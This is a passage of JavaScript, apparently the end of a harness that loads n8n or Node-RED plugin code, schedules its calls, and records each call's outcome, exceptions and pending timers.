      } catch (e) {
        if (!(e instanceof ExitSignal)) record('exception', { phase: 'load', path: entry, error: describeError(e) });
        return 0;
      }
      try {
        if (platform === 'n8n') planN8n(exp, entry);
        else if (platform === 'node-red') planNodeRed(exp, entry);
      } catch (e) {
        if (!(e instanceof ExitSignal)) record('exception', { phase: 'register', path: entry, error: describeError(e) });
      }
      return plan.length;
    },
    label(i) { return plan[i].label; },
    call(i) {
      const c = plan[i];
      current = c.label;
      record('call', { mode: c.mode });
      let p;
      try { p = Promise.resolve(c.run()); } catch (e) { p = Promise.reject(e); }
      p.then(() => { settled[i] = 'ok'; record('settled', { outcome: 'ok', mode: c.mode }); }, (e) => {
        settled[i] = 'error';
        if (e instanceof ExitSignal) return;
        record('exception', { phase: 'call', mode: c.mode, error: describeError(e) });
      });
    },
    turn(max) { return runTimers(max); },
    pendingTimers() { return timers.length; },
    finish(i) { if (!settled[i]) { current = plan[i].label; record('unsettled', { mode: plan[i].mode }); } },
  };
})
